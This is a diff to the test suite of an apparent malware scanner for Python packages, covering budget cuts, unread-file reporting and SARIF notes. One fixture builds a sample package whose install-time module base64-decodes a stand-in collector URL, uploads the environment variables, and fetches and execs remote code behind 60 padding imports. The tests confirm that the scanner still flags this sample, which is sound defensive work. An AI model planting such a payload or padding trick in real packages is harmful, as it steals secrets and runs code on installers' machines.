@@ -82,7 +82,8 @@ def test_a_padded_package_is_judged_on_the_files_read_and_the_cut_is_shown(
     assert f"{len(unread)} file(s) NOT READ (analysis budget exhausted)" in text
 
     (entry,) = json.loads(render_json([result]))
-    assert entry["unread_files"] == {"count": len(unread), "first": list(unread[:20])}
+    assert entry["unread_files"] == {"count": len(unread), "first": list(unread[:20]),
+                                     "import_path": {"count": 0, "first": []}}  # lib/mod_* are imported by nothing
     jsonschema.validate([entry], report_schema())
 
     sarif = json.loads(render_sarif([result]))
@@ -143,7 +144,7 @@ def test_the_install_and_import_path_is_read_first(tmp_path: Path) -> None:
     package = _load(root)
     order = ReadingOrder(package)
     seen: list[str] = []
-    for _index, f in order:
+    for _index, f, _tier in order:
         seen.append(f.path)
         analysis = analyse_package_file(package, f.path)
         if analysis is not None:
@@ -176,7 +177,7 @@ def test_npm_lifecycle_script_targets_and_main_are_read_first(tmp_path: Path) ->
     package = _load(root)
     order = ReadingOrder(package)
     seen = []
-    for _index, f in order:
+    for _index, f, _tier in order:
         seen.append(f.path)
         analysis = analyse_package_file(package, f.path)
         assert analysis is not None
@@ -196,3 +197,96 @@ def test_a_share_reports_its_units_to_the_package_budget_once() -> None:
     assert package_budget.used == 35
     package_budget.charge(965)
     assert package_budget.exhausted
+
+
+def _reviewer_package(root: Path, setup_import: str = "import zpayload\n") -> Path:
+    """The review's shape: setup.py imports 60 heavy padding modules, then the payload module (an
+    environment upload); a top-level package `demo` (the import path) and a folder nothing imports."""
+    (root / "lib").mkdir(parents=True)
+    (root / "lib" / "__init__.py").write_text("")
+    for i in range(PADDED_FILES):
+        (root / "lib" / f"mod_{i:02}.py").write_text(PADDING)
+    (root / "setup.py").write_text(
+        "from setuptools import setup\n"
+        + "".join(f"import lib.mod_{i:02}\n" for i in range(PADDED_FILES))
+        + setup_import
+        + "setup(name='padded-demo', version='1.0', packages=['demo'])\n")
+    (root / "zpayload.py").write_text(
+        "import base64\nimport os\nimport socket\nimport urllib.request\n\n"
+        "url = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS9j').decode()\n"
+        "info = {'env': dict(os.environ), 'host': socket.gethostname()}\n"
+        "urllib.request.urlopen(url, data=repr(info).encode())\n"
+        "exec(base64.b64decode(urllib.request.urlopen(url + '/s').read()))\n")
+    (root / "demo").mkdir()
+    (root / "demo" / "__init__.py").write_text("from .core import run\n")
+    (root / "demo" / "core.py").write_text(PADDING)
+    (root / "extra").mkdir()
+    for i in range(3):
+        (root / "extra" / f"pad_{i}.py").write_text(PADDING)
+    return root
+
+
+def test_padding_imported_before_an_install_time_payload_does_not_push_it_past_the_cut(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    root = _reviewer_package(tmp_path / "pkg")
+    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", SMALL_BUDGET)
+    (result,) = scan([str(root)], ScanOptions(isolate=False))
+    assert result.error is None and result.analysis is not None
+    read = {f.path for f in result.analysis.files}
+    # the whole install path is read although it alone is over the budget; the cut takes the rest only
+    assert {"setup.py", "zpayload.py", "lib/__init__.py"} | {f"lib/mod_{i:02}.py" for i in range(PADDED_FILES)} <= read
+    assert "demo/__init__.py" in result.analysis.unread and "extra/pad_0.py" in result.analysis.unread
+    # which unread files would run at import time: the package's __init__ (its imports were never seen)
+    assert result.analysis.unread_import_path == ("demo/__init__.py",)
+    assert set(result.analysis.unread_import_path) <= set(result.analysis.unread)
+    payload = result.analysis.file("zpayload.py")
+    assert payload is not None and {"read_env", "upload_data"} <= {e.behaviour for e in payload.events}
+    assert result.verdict == "malicious"
+    # judged as if nothing were cut: the cut files add no step (the padding and demo/ do nothing)
+    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", 10**9)
+    (whole,) = scan([str(root)], ScanOptions(isolate=False))
+    assert whole.analysis is not None and whole.analysis.unread == ()
+    assert result.sequence is not None and whole.sequence is not None
+    assert result.sequence.steps == whole.sequence.steps and result.score == whole.score
+
+    (entry,) = json.loads(render_json([result]))
+    assert entry["unread_files"]["import_path"] == {"count": 1, "first": ["demo/__init__.py"]}
+    jsonschema.validate([entry], report_schema())
+    from malseq.serve.view import _unread
+
+    assert _unread(entry["unread_files"]).startswith(f"{len(result.analysis.unread)} (1 on the import path): ")
+    assert "(1 on the import path, e.g. demo/__init__.py)" in render_text([result], show_features=False,
+                                                                          show_sequence=False)
+
+
+def test_a_benign_package_with_unread_files_leaves_a_note_in_sarif(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import sys
+
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "report"))
+    from github_sarif import github_upload_problems
+
+    root = _reviewer_package(tmp_path / "pkg", setup_import="")
+    (root / "zpayload.py").unlink()
+    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", SMALL_BUDGET)
+    (result,) = scan([str(root)], ScanOptions(isolate=False))
+    assert result.error is None and result.analysis is not None and result.analysis.unread
+    assert result.verdict != "malicious"
+    serialized = render_sarif([result])
+    doc = json.loads(serialized)
+    assert github_upload_problems(doc, serialized) == []
+    run = doc["runs"][0]
+    (note,) = [r for r in run["results"] if r["ruleId"] == "analysis-incomplete"]
+    assert note["level"] == "note"
+    assert note["properties"]["unreadFiles"] == len(result.analysis.unread)
+    assert note["properties"]["unreadImportPath"] == 1
+    assert note["properties"]["unreadImportPathFirst"] == ["demo/__init__.py"]
+    assert f"{len(result.analysis.unread)} file(s) not read" in note["message"]["text"]
+    assert "analysis-incomplete" in {rule["id"] for rule in run["tool"]["driver"]["rules"]}
+    # an uncut run lists neither the result nor its rule
+    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", 10**9)
+    (whole,) = scan([str(root)], ScanOptions(isolate=False))
+    assert whole.analysis is not None and whole.analysis.unread == ()
+    clean_run = json.loads(render_sarif([whole]))["runs"][0]
+    assert "analysis-incomplete" not in {r["ruleId"] for r in clean_run["results"]}
+    assert "analysis-incomplete" not in {rule["id"] for rule in clean_run["tool"]["driver"]["rules"]}
